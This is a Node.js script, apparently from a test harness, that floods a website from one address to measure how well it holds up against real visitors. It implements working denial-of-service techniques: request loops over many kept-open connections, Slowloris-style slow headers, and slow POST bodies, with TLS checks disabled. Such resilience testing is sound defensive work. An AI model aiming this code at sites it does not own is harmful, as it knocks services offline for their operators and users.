// An attack from one address, in a separate process, so that its own cost does not slow the timed visitors. Its only
// argument is the plan; when stopped, it prints the number of answers by status.
import http from 'node:http';
import https from 'node:https';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { connect as connectTls } from 'node:tls';

/** The pause before a refused or closed connection is opened again. */
const AGAIN_MS = 250;
const DRIP_MS = 1_000;

const { kind, count, asks, url, host, path, formPath, headers, localAddress } = JSON.parse(process.argv[2]);
const { protocol, hostname, port } = new URL(url);
const isTls = protocol === 'https:';
// A real attacker has other machines; here the attack shares two cores with the site, so it runs at low priority.
setPriority(19);

const answered = {};
const note = (what) => {
  answered[what] = (answered[what] ?? 0) + 1;
};

/** Requests without a pause over `count` connections that stay open; each connection begins at another of the `asks`. */
function loops() {
  const all = asks ?? [{ path }];
  const options = { keepAlive: true, localAddress, rejectUnauthorized: false, servername: 'localhost' };
  const agent = new (isTls ? https : http).Agent({ ...options, maxSockets: count });
  const ask = ({ method = 'GET', path, headers: own, body }) =>
    new Promise((done) => {
      const request = (isTls ? https : http).request(
        { hostname, port, path, method, agent, headers: { Host: host, ...headers, ...own } },
        (answer) => {
          note(answer.statusCode);
          answer.resume();
          answer.once('close', done);
        },
      );
      request.once('error', () => {
        note('closed');
        setTimeout(done, AGAIN_MS);
      });
      request.end(body);
    });
  const loop = async (first) => {
    for (let at = first; ; at += 1) await ask(all[at % all.length]);
  };
  for (let at = 0; at < count; at += 1) void loop(at);
}

const lines = (first) =>
  [first, `Host: ${host}`, ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`)].join('\r\n');

/** Opens connections that send the text `opening`, and then a few bytes at a time until the site closes them. */
function slow(opening, drop) {
  const open = new Set();
  const start = () => {
    const at = { host: hostname, port, localAddress, rejectUnauthorized: false, servername: 'localhost' };
    const socket = isTls ? connectTls(at, () => socket.write(opening)) : connect(at, () => socket.write(opening));
    open.add(socket);
    socket.on('error', () => undefined);
    socket.once('data', (piece) => note(piece.toString('latin1').slice(9, 12)));
    socket.once('close', () => {
      note('closed');
      open.delete(socket);
      setTimeout(start, AGAIN_MS);
    });
  };
  for (let at = 0; at < count; at += 1) start();
  setInterval(() => {
    for (const socket of open) if (socket.writable) socket.write(drop);
  }, DRIP_MS);
}

const KINDS = {
  loops,
  'slow headers': () => slow(`${lines(`GET ${path} HTTP/1.1`)}\r\n`, 'X-A: b\r\n'),
  'slow bodies': () =>
    slow(
      `${lines(`POST ${formPath} HTTP/1.1`)}\r\nOrigin: ${protocol}//${host}\r\n` +
        'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 9000\r\n\r\n',
      'a',
    ),
};
KINDS[kind]();
process.once('SIGTERM', () => {
  process.stdout.write(JSON.stringify(answered));
  process.exit();
});
console.error('begun');
